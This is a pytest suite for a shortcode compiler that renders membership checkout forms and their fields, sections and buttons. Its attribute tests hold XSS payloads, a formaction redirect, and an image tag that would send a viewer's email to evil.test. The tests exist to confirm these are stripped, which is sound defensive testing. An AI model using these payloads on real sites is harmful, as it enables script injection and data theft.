"""The parts of a form: within one, outside of one, in attributes; and what means harm in them."""

from __future__ import annotations

import html

import pytest

import shortcodes
from shortcodes.compiler import MAX_DEPTH
from tests.shortcodes.builders import PageView, a_view, a_visitor

OPEN, CLOSE = "[MM_Form type='checkout']", "[/MM_Form]"


def rendered(text: str, facts: PageView | None = None) -> str:
    return shortcodes.compile(text).render(facts or a_visitor()).text


def within(text: str) -> str:
    """What a part prints within a form."""
    return rendered(f"{OPEN}{text}{CLOSE}").removeprefix("<form checkout>").removesuffix("</form>")


def told(text: str) -> list[str]:
    return [one.message for one in shortcodes.compile(text).diagnostics]


# --- where they stand -------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "part",
    [
        "[MM_Form_Field name='email']",
        "[MM_Form_Data name='productName']",
        "[MM_Form_Message type='error']",
        "[MM_Form_Button type='submit']",
        "[MM_Form_Section type='accountInfo']x[/MM_Form_Section]",
        "[MM_Form_Subsection type='accountInfo']x[/MM_Form_Subsection]",
    ],
)
def test_a_part_outside_of_a_form_prints_nothing_and_its_author_is_told(part: str) -> None:
    tag = part[1:].split(maxsplit=1)[0]
    for text in (part, f"{OPEN}{part}", f"{OPEN}{CLOSE}{part}", f"{part}{OPEN}{CLOSE}"):
        assert "{" not in rendered(text)
        assert told(text) == [f"[{tag}] stands in no form."]
    assert told(f"{OPEN}{part}{CLOSE}") == []


def test_two_forms_on_a_page_have_their_own_parts() -> None:
    text = (
        f"{OPEN}[MM_Form_Field name='email']{CLOSE}-[MM_Form type='login']-[MM_Form type='custom']x[/MM_Form]"
    )
    assert rendered(text) == (
        '<form checkout>{field email}</form>-<form method="post" data-form="login"><p></p></form>-<form custom>x</form>'
    )
    assert told(text) == []


def test_a_form_within_a_form_prints_nothing_and_its_author_is_told() -> None:
    inner = "[MM_Form type='login']y[/MM_Form]"
    assert rendered(f"{OPEN}x{inner}z{CLOSE}") == "<form checkout>xz</form>"
    assert told(f"{OPEN}x{inner}z{CLOSE}") == ["A form cannot stand within a form."]
    assert "A form cannot stand within a form." in told(f"{OPEN}[MM_Form type='login'/]{CLOSE}")


def test_a_form_that_is_never_closed_is_a_whole_one() -> None:
    assert (
        rendered(f"{OPEN}<p>after</p>")
        == '<form method="post" data-form="checkout"><p></p></form><p>after</p>'
    )


def test_a_form_whose_end_stands_in_an_attribute_is_left_out() -> None:
    for inside in ("<a title='", "<script>", "<div "):
        text = f"a{OPEN}{inside}{CLOSE}"
        assert rendered(text) == "a"
        assert "A form can only stand in the text itself" in told(text)[0]


def test_who_cannot_use_the_form_sees_why_in_place_of_all_of_it() -> None:
    facts = a_visitor(form_is_refused="<p>no</p>")
    text = f"a{OPEN}b[MM_Form_Field name='email'][MM_Content_Data name='title']{CLOSE}c"
    assert rendered(text, facts) == "a<p>no</p>c"
    assert facts.asked == ["enter checkout"]
    assert facts.open_form() is None


def test_a_form_in_a_hidden_branch_is_never_entered() -> None:
    facts = a_visitor()
    text = f"[MM_Member_Decision isMember='true']{OPEN}a{CLOSE}[/MM_Member_Decision]b"
    assert rendered(text, facts) == "b"
    assert facts.asked == ["member"]


def test_a_decision_within_a_form_chooses_its_parts() -> None:
    text = (
        f"{OPEN}[MM_Member_Decision isMember='true'][MM_Form_Field name='phone'][MM_Else]"
        f"[MM_Form_Field name='email'][/MM_Member_Decision]{CLOSE}"
    )
    assert rendered(text) == "<form checkout>{field email}</form>"
    assert rendered(text, a_view()) == "<form checkout>{field phone}</form>"


def test_what_crosses_a_form_does_not_break_it() -> None:
    text = f"{OPEN}[MM_Member_Decision isMember='true']a{CLOSE}b[/MM_Member_Decision]"
    assert rendered(text) == "<form checkout>a</form>b[/MM_Member_Decision]"
    assert "[MM_Form_Section] is never closed: everybody sees what follows it." in told(
        f"{OPEN}[MM_Form_Section type='coupon']a{CLOSE}[/MM_Form_Section]"
    )


def test_forms_within_forms_go_no_deeper_than_decisions() -> None:
    deep = OPEN * (MAX_DEPTH + 20) + CLOSE * (MAX_DEPTH + 20)
    assert "decisions stand within each other" in " ".join(told(deep))
    rendered(deep * 3)
    template = shortcodes.compile("é" + OPEN * 5_000 + "é" + CLOSE * 5_000)
    assert template.splices(a_visitor())
    assert template.stripped() == "é"


def test_an_escaped_form_is_shown_and_asks_nothing() -> None:
    facts = a_visitor()
    shown = rendered(f"[{OPEN}[MM_Form_Field name='email']{CLOSE}]", facts)
    assert html.unescape(shown) == f"{OPEN}[MM_Form_Field name='email']{CLOSE}"
    assert facts.asked == []


# --- sections ---------------------------------------------------------------------------------------------------------


def test_a_section_shows_what_this_viewer_has_to_fill_in() -> None:
    sections = "".join(
        f"[MM_Form_Section type='{kind}']{kind} [/MM_Form_Section]"
        for kind in ("accountInfo", "billingInfo", "coupon")
    )
    assert within(sections) == "accountInfo "


@pytest.mark.parametrize("kind", ["shippingInfo", "giftInfo", "gifts", "socialLogin", "shippingAddress"])
def test_what_is_not_offered_yet_is_hidden_with_all_it_holds(kind: str) -> None:
    text = f"[MM_Form_Section type='{kind}']<b>x</b>[MM_Form_Field name='shippingCity'][/MM_Form_Section]"
    assert within(text) == ""
    assert f"type “{kind}” is not offered yet; it prints nothing." in told(f"{OPEN}{text}{CLOSE}")


@pytest.mark.parametrize(
    "part",
    [
        "[MM_Form_Field name='gift']",
        "[MM_Form_Field name='captcha']",
        "[MM_Form_Field name='shippingMethod']",
        "[MM_Form_Data name='shippingPrice']",
        "[MM_Form_Button type='viewGiftHistory']",
    ],
)
def test_a_part_that_is_not_offered_yet_prints_nothing_and_its_author_is_told(part: str) -> None:
    assert within(part) == ""
    [message] = told(f"{OPEN}{part}{CLOSE}")
    assert message.endswith("is not offered yet; it prints nothing.")


def test_the_form_of_one_click_is_not_offered_yet() -> None:
    text = "a[MM_Form type='1clickPurchase']Sure? [MM_Form_Data name='totalPrice'][/MM_Form]b"
    assert rendered(text) == "ab"
    assert told(text) == ["type “1clickPurchase” is not offered yet; it prints nothing."]


def test_the_cards_fields_have_one_place() -> None:
    assert within("[MM_Form_Field name='ccNumber']") == "{field ccNumber}"
    for name in ("ccSecurityCode", "ccExpirationDate"):
        assert within(f"[MM_Form_Field name='{name}']") == ""
        assert "ccNumber" in told(f"{OPEN}[MM_Form_Field name='{name}']{CLOSE}")[0]


# --- attributes, and where no element may stand -----------------------------------------------------------------------


def test_a_field_keeps_its_harmless_attributes() -> None:
    text = """[MM_Form_Field type='input' name='firstName' customAttributes='placeholder="First name" id="one"']"""
    assert within(text) == "{field firstName placeholder=First name id=one}"


@pytest.mark.parametrize(
    "harm",
    [
        "onfocus=alert(1)",
        'onfocus="alert(1)" autofocus',
        'formaction="https://evil.test/"',
        'form="other"',
        'name="accept"',
        'value="x"',
        'type="image" src="https://evil.test/x"',
        'style="position:fixed"',
        'id="a b"',
        "disabled",
        "data-gatepost-step=cancel",
        "x><script>alert(1)</script>",
    ],
)
def test_an_attribute_that_could_do_harm_is_left_out_and_its_author_is_told(harm: str) -> None:
    text = f"{OPEN}[MM_Form_Field name='email' customAttributes='{harm}']{CLOSE}"
    assert rendered(text) == "<form checkout>{field email}</form>"
    assert any("customAttributes" in message for message in told(text))


@pytest.mark.parametrize("look", ['x"><script>', "a&b", "{}", "é"])
def test_classes_are_words_and_nothing_else(look: str) -> None:
    text = f"{OPEN}[MM_Form_Button type='submit' color='{look}']{CLOSE}"
    assert rendered(text) == "<form checkout>{button submit  mm-button}</form>"
    assert told(text) == [f"color cannot be “{look}”."]


def test_a_button_in_a_link_is_an_address() -> None:
    link = """<a href="[MM_Form_Button type='applyCoupon']" class="mm-button">Apply</a>"""
    assert html.unescape(within(link)) == '<a href="#gatepost-applyCoupon" class="mm-button">Apply</a>'
    assert within("<p onclick='[MM_Form_Button]'>x</p>") == "<p onclick=''>x</p>"


@pytest.mark.parametrize("quote", ["'", "&apos;", "&#039;", "&#39;", "&quot;", "&#034;"])
def test_quotes_that_wordpress_has_encoded_in_an_attribute_are_quotes(quote: str) -> None:
    link = f'<a href="[MM_Form_Button type={quote}applyCoupon{quote}]">Apply</a>'
    assert html.unescape(within(link)) == '<a href="#gatepost-applyCoupon">Apply</a>'


def test_data_in_an_attribute_is_a_text_that_cannot_end_it() -> None:
    shown = within("<b title='[MM_Form_Data name=productName]'>[MM_Form_Data name=productName]</b>")
    assert shown.endswith("'><b>productName</b></b>")
    assert "<'" not in shown
    assert html.unescape(shown).startswith("<b title='productName<'\">'")


def test_what_only_the_viewer_is_to_know_does_not_leave_the_text_of_an_untrusted_author() -> None:
    facts = a_view(author_is_trusted=False)
    text = f"{OPEN}<img src='https://evil.test/?[MM_Form_Data name=email]'>[MM_Form_Data name='email']{CLOSE}"
    assert rendered(text, facts) == "<form checkout><img src='https://evil.test/?'><b>email</b></form>"


def test_the_words_of_attributes_may_be_written_in_any_case() -> None:
    assert (
        within("[MM_Form_Button TYPE='ALL' Label='Buy' color='orange']")
        == "{button submit Buy mm-button orange}"
    )
    assert within("[MM_Form_Field NAME='FIRSTNAME']") == "{field firstName}"


@pytest.mark.parametrize(
    ("part", "message"),
    [
        ("[MM_Form_Field name='frstName']", "name cannot be “frstName”. Did you mean “firstName”?"),
        ("[MM_Form_Field type='radio' name='email']", "type cannot be “radio”."),
        ("[MM_Form_Field type='custom']", "id has to be a number, not “”."),
        ("[MM_Form_Data]", "The attribute name is missing."),
        ("[MM_Form_Message type='x']", "type cannot be “x”."),
        ("[MM_Form_Button type='explode']", "type cannot be “explode”."),
    ],
)
def test_what_is_written_wrongly_prints_nothing_and_is_told(part: str, message: str) -> None:
    assert within(part) == ""
    assert told(f"{OPEN}{part}{CLOSE}") == [message]


def test_a_theme_cannot_ask_a_part() -> None:
    for tag in ("MM_Form_Field", "MM_Form_Section", "MM_Form_Data"):
        assert shortcodes.ask(tag, {"type": "coupon", "name": "email"}, a_view()) is None
